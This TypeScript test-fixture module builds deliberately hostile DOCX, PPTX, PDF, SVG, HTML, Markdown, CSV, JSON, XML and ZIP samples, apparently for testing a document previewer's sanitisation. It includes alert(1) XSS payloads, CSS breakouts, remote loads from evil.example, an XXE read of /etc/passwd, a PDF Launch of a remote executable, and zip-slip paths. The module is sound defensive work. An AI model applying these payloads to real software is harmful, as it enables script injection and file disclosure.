import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
import { pdfOf, streamOf } from '../../mock-platform/data/pdf-file'
import { sampleBytes } from '../../mock-platform/data/samples'
import { sampleArchive } from './sample-files'

/** Documents that would run script, load resources or mislead users, each with 「正文」 in it. What runs calls `alert`. */

const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const packages = 'http://schemas.openxmlformats.org/package/2006'
const away = 'https://evil.example'
const runs = '<img src=x onerror=alert(1)>'
const escaped = runs.replaceAll('<', '&lt;')
/** Ends a CSS string, a declaration and a rule, wherever it is inserted. */
const css = `red;background-image:url(${away}/a.png)`
const breakout = `x&apos;;} * { background: url(${away}/b.png) } @import url(${away}/c.css); .y { a: &apos;`

/** A drawing with everything that a drawing must not do. */
export const hostileDrawing = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90" onload="alert(1)"><script>alert(1)</script><image href="${away}/d.png" width="9" height="9"/><use xlink:href="${away}/e.svg#x"/><style>@import url(${away}/f.css);</style><foreignObject width="90" height="90"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(1)"/><img src="x" onerror="alert(1)"/></body></foreignObject><a xlink:href="javascript:alert(1)"><text y="20">正文</text></a></svg>`

type Target = [id: string, kind: string, target: string, external?: boolean]

function relationships(targets: readonly Target[]): string {
  const list = targets.map(
    ([id, kind, target, external]) =>
      `<Relationship Id="${id}" Type="${relations}/${kind}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`,
  )
  return `<Relationships xmlns="${packages}/relationships">${list.join('')}</Relationships>`
}

const run = (text: string, look = '') => `<w:r><w:rPr>${look}</w:rPr><w:t>${text}</w:t></w:r>`
const paragraph = (content: string, look = '') => `<w:p><w:pPr>${look}</w:pPr>${content}</w:p>`
const picture = (blip: string) =>
  `<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="900000" cy="900000"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip ${blip}/></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`

export function hostileWord(): Buffer {
  const type = 'application/vnd.openxmlformats-officedocument.wordprocessingml'
  const body = [
    paragraph(run('正文')),
    paragraph(run(escaped)),
    // Where the library writes style sheets and attributes.
    paragraph(run('色', `<w:color w:val="${css}"/><w:shd w:val="clear" w:fill="${css}"/>`)),
    paragraph(
      run('字', `<w:rFonts w:ascii="${breakout}" w:eastAsia="${breakout}"/><w:sz w:val="${css}"/>`),
    ),
    paragraph(run('样'), `<w:pStyle w:val="evil"/><w:ind w:left="${css}"/><w:jc w:val="${css}"/>`),
    // Links, by relationship and by field.
    paragraph(
      `<w:hyperlink r:id="script">${run('一')}</w:hyperlink><w:hyperlink r:id="data">${run('二')}</w:hyperlink>`,
    ),
    paragraph(
      `<w:fldSimple w:instr=" HYPERLINK &quot;javascript:alert(1)&quot; ">${run('三')}</w:fldSimple>`,
    ),
    paragraph(
      `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> HYPERLINK "javascript:alert(1)" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>${run('四')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`,
    ),
    paragraph(`<w:r><w:instrText> INCLUDEPICTURE "${away}/g.png" </w:instrText></w:r>`),
    // Pictures that are elsewhere, and a drawing of the document's own.
    paragraph(picture('r:embed="far"') + picture('r:link="far"') + picture('r:embed="drawing"')),
    paragraph(
      `<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="v" style="width:90pt;height:90pt;background:url(${away}/h.png)" onmouseover="alert(1)" href="javascript:alert(1)"><v:imagedata r:id="far" src="${away}/i.png"/><v:textbox><w:txbxContent>${paragraph(run('框'))}</w:txbxContent></v:textbox></v:shape></w:pict></w:r>`,
    ),
    '<w:altChunk r:id="chunk"/>',
    // Names that a page's own scripts might look up.
    ...['location', '__remixContext', 'cookie', 'body', 'forms', '__proto__'].map((name, at) =>
      paragraph(
        `<w:bookmarkStart w:id="${at}" w:name="${name}"/>${run(name)}<w:bookmarkEnd w:id="${at}"/>`,
      ),
    ),
    `<w:sectPr><w:pgSz w:w="${css}" w:h="16838"/></w:sectPr>`,
  ]
  const names = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${relations}"`
  return sampleArchive({
    '[Content_Types].xml': `<Types xmlns="${packages}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="svg" ContentType="image/svg+xml"/><Default Extension="html" ContentType="text/html"/><Override PartName="/word/document.xml" ContentType="${type}.document.main+xml"/><Override PartName="/word/styles.xml" ContentType="${type}.styles+xml"/></Types>`,
    '_rels/.rels': relationships([['rId1', 'officeDocument', 'word/document.xml']]),
    'word/document.xml': `<w:document ${names}><w:body>${body.join('')}</w:body></w:document>`,
    'word/styles.xml': `<w:styles ${names}><w:style w:type="paragraph" w:styleId="evil"><w:name w:val="${breakout}"/><w:rPr><w:rFonts w:ascii="${breakout}"/><w:color w:val="${css}"/></w:rPr></w:style><w:style w:type="paragraph" w:styleId="a{}*{background:url(${away}/j.png)}"><w:name w:val="z"/></w:style></w:styles>`,
    'word/media/drawing.svg': hostileDrawing,
    'word/chunk.html': `<script>alert(1)</script>${runs}`,
    'word/_rels/document.xml.rels': relationships([
      ['styles', 'styles', 'styles.xml'],
      ['script', 'hyperlink', 'javascript:alert(1)', true],
      ['data', 'hyperlink', 'data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;', true],
      ['far', 'image', `${away}/k.png`, true],
      ['drawing', 'image', 'media/drawing.svg'],
      ['chunk', 'aFChunk', 'chunk.html'],
    ]),
  })
}

export function hostileSlides(): Buffer {
  const parts = unzipSync(sampleBytes('slides'))
  const change = (name: string, edit: (text: string) => string) => {
    parts[name] = strToU8(edit(strFromU8(parts[name] ?? new Uint8Array())))
  }
  const blip = (what: string) =>
    `<p:pic><p:nvPicPr><p:cNvPr id="9" name="${escaped}" descr="${escaped}"><a:hlinkClick r:id="script"/></p:cNvPr><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill>${what}<a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="800000" y="500000"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>`
  const svg = `<a:blip r:embed="drawing"><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="drawing"/></a:ext></a:extLst></a:blip>`
  const video = `<p:pic><p:nvPicPr><p:cNvPr id="12" name="v"/><p:cNvPicPr/><p:nvPr><a:videoFile r:link="video"/></p:nvPr></p:nvPicPr><p:blipFill><a:blip r:embed="far"/></p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>`
  change('ppt/slides/slide1.xml', (text) =>
    text
      .replace('数字政府建设工作汇报', `正文${escaped}`)
      .replace(
        '<a:rPr lang="zh-CN" sz="4000" b="1"/>',
        `<a:rPr lang="zh-CN" sz="4000"><a:solidFill><a:srgbClr val="${css}"/></a:solidFill><a:latin typeface="${breakout}"/><a:ea typeface="${breakout}"/><a:hlinkClick r:id="script"/></a:rPr>`,
      )
      .replace(
        '</p:spTree>',
        `${blip('<a:blip r:embed="far"/>')}${blip('<a:blip r:link="far"/>')}${blip(svg)}${video}</p:spTree>`,
      )
      .replace(
        '<p:cSld>',
        '<p:cSld><p:bg><p:bgPr><a:blipFill><a:blip r:embed="far"/></a:blipFill></p:bgPr></p:bg>',
      ),
  )
  change('ppt/slides/_rels/slide1.xml.rels', (text) => {
    const more = relationships([
      ['script', 'hyperlink', 'javascript:alert(1)', true],
      ['far', 'image', `${away}/l.png`, true],
      ['video', 'video', `${away}/m.mp4`, true],
      ['drawing', 'image', '../media/drawing.svg'],
    ])
    return text.replace('</Relationships>', more.replace(/^<Relationships[^>]*>/, ''))
  })
  change('[Content_Types].xml', (text) =>
    text.replace('<Default', '<Default Extension="svg" ContentType="image/svg+xml"/><Default'),
  )
  parts['ppt/media/drawing.svg'] = strToU8(hostileDrawing)
  return Buffer.from(zipSync(parts))
}

/** Scripts on opening, in a link, in a field and in a font's matrix, which libraries have run; links to programs. */
export function hostilePdf(): Buffer {
  const link = (action: string, y: number) =>
    `<< /Type /Annot /Subtype /Link /Rect [10 ${y} 190 ${y + 20}] /A << ${action} >> >>`
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\); alert\\(1\\)) >> /AA << /WC << /S /JavaScript /JS (alert\\(1\\)) >> >> /AcroForm << /Fields [8 0 R] >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [6 0 R 7 0 R 8 0 R 9 0 R] /AA << /O << /S /JavaScript /JS (alert\\(1\\)) >> >> >>',
    streamOf('BT /F1 24 Tf 20 150 Td (Body) Tj ET'),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 0 0 1 0 (0\\); alert\\(1\\)//)] >>',
    link('/S /URI /URI (javascript:alert\\(1\\))', 10),
    link('/S /Launch /F (\\\\\\\\evil.example\\\\run.exe)', 40),
    '<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (<img src=x onerror=alert\\(1\\)>) /Rect [10 70 190 90] /AA << /K << /S /JavaScript /JS (alert\\(1\\)) >> >> >>',
    link(`/S /GoToR /F (${away}/n.pdf) /D [0 /Fit]`, 100),
  ])
}

const table = `正文,"${runs}","=HYPERLINK(""javascript:alert(1)"")",javascript:alert(1)\n`

/** Texts that other programs would run, by name. */
export const hostileTexts: Record<string, string> = {
  '表.csv': table,
  '页.html': `<!doctype html><title>正文</title><script>alert(1)</script>${runs}<meta http-equiv="refresh" content="0;url=${away}">`,
  '记.md': `# 正文\n\n${runs}\n\n[一](javascript:alert(1)) ![二](${away}/o.png)\n\n<script>alert(1)</script>`,
  '数.json': `{"正文": "</script>${runs.replaceAll('"', "'")}", "__proto__": {"polluted": true}}`,
  '件.xml': `<?xml version="1.0"?><?xml-stylesheet href="${away}/p.xsl"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a xmlns:h="http://www.w3.org/1999/xhtml">正文<h:script>alert(1)</h:script>&b;</a>`,
}

/** An archive whose entries lead out of it and carry attacks in their names. */
export const hostileArchive = () =>
  sampleArchive({
    '正文.txt': '正文',
    [`${runs}.txt`]: 'x',
    '../../../etc/passwd': 'x',
    '/etc/passwd': 'x',
    'constructor/__proto__': 'x',
  })
